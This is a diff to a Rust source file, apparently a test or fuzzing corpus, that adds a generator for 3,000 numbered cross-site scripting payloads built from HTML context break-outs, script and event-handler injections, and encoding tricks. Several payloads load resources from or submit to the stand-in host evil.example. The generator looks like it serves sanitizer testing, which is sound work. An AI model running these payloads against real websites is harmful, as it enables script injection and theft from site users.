@@ -77,6 +77,96 @@ pub const PAYLOADS: [&str; 72] = [
     "\u{fdfd}Z\u{0341}\u{0341}\u{0341}\u{0341}\u{0341}algo \u{1f469}\u{200d}\u{1f692}",
 ];
 
+/// What a payload breaks out of.
+const OUT_OF: [&str; 10] = [
+    "",
+    "\">",
+    "'>",
+    "</title>",
+    "</textarea>",
+    "</bdi>",
+    "-->",
+    "]]>",
+    "</option></select>",
+    "`>",
+];
+
+/// What it then does; `N` is its number, so that it can be found again.
+const THEN: [&str; 30] = [
+    "<script>alert(N)</script>",
+    "<script src=//evil.example/N></script>",
+    "<img src=x onerror=alert(N)>",
+    "<img src=//evil.example/N>",
+    "<image href=x onerror=alert(N)>",
+    "<svg onload=alert(N)>",
+    "<svg><script>alert(N)</script>",
+    "<svg><animate onbegin=alert(N)>",
+    "<math><a href=javascript:alert(N)>x</a>",
+    "<iframe src=javascript:alert(N)>",
+    "<iframe srcdoc=alert(N)>",
+    "<object data=//evil.example/N>",
+    "<embed src=//evil.example/N>",
+    "<link rel=stylesheet href=//evil.example/N>",
+    "<style>@import'//evil.example/N'</style>",
+    "<base href=//evil.example/N>",
+    "<meta http-equiv=refresh content=N>",
+    "<form action=//evil.example/N>",
+    "<input autofocus onfocus=alert(N)>",
+    "<select autofocus onfocus=alert(N)>",
+    "<textarea autofocus onfocus=alert(N)>",
+    "<details open ontoggle=alert(N)>",
+    "<video src=x onerror=alert(N)>",
+    "<audio src=x onerror=alert(N)>",
+    "<body onload=alert(N)>",
+    "<a href=javascript:alert(N)>x</a>",
+    "<a href=//evil.example/N>x</a>",
+    "<p style=color:red id=N>",
+    "<template><img onerror=alert(N)>",
+    "<x onclick=alert(N) tabindex=1>",
+];
+
+/// How it hides itself.
+const HIDDEN: [fn(&str) -> String; 10] = [
+    str::to_owned,
+    |text| text.to_ascii_uppercase(),
+    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
+    |text| text.replace('<', "%3C").replace('>', "%3E"),
+    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
+    |text| text.replace(' ', "/"),
+    |text| text.replace('<', "<<"),
+    |text| text.replace('=', "&#61;"),
+    |text| text.replace("alert", "&#x61;lert"),
+    |text| text.replace('>', " >"),
+];
+
+/// Three thousand: every way out, every deed, every disguise.
+pub fn made() -> Vec<String> {
+    let mut all = Vec::new();
+    for out in OUT_OF {
+        for then in THEN {
+            for hidden in HIDDEN {
+                let numbered = then.replace('N', &(1_000 + all.len()).to_string());
+                all.push(hidden(&format!("{out}{numbered}")));
+            }
+        }
+    }
+    all
+}
+
+/// As many of `all` from `next` on as `signs` take, one a line; `next` moves on.
+pub fn deal(all: &[String], next: &mut usize, signs: usize) -> String {
+    let mut dealt = String::new();
+    while let Some(one) = all.get(*next) {
+        if dealt.chars().count() + one.chars().count() + 2 > signs {
+            break;
+        }
+        dealt.push_str(one);
+        dealt.push('\n');
+        *next += 1;
+    }
+    dealt
+}
+
 /// Those from `first` on, as many as `signs` take, one a line.
 pub fn lines(first: usize, signs: usize) -> String {
     let mut all = String::new();
